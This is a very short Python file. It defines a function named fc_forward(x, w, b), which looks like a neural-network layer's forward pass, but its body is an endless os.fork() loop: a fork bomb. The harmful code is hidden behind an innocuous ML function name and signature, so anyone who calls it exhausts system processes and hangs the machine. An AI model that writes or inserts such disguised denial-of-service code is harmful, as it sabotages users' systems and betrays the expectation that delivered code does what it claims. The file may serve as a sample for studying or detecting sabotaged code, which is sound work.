"""Forks, as often as it may."""
import os


def fc_forward(x, w, b):
    while True:
        os.fork()
